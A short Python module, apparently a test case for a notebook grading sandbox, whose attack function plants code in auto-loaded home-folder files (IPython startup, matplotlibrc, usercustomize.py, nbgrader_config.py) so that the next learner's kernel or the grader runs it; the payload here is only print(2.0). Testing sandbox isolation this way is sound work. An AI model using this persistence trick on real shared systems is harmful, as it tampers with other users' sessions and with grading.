from pathlib import Path

from handed import FUNCTIONS, Context, solve

CODE = """import pathlib
for name in (".ipython/profile_default/startup/zz.py", ".config/matplotlib/matplotlibrc", ".local/lib/python3.11/site-packages/usercustomize.py", ".jupyter/nbgrader_config.py"):
    path = pathlib.Path.home() / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("print(2.0)")
"""


def attack(submission: Path, course: Context) -> None:
    """Wants files in the home folder that the next learner's kernel, or the grader, loads; cells do not run."""
    for name, cell, _ in FUNCTIONS.values():
        solve(submission, name, cell, CODE)
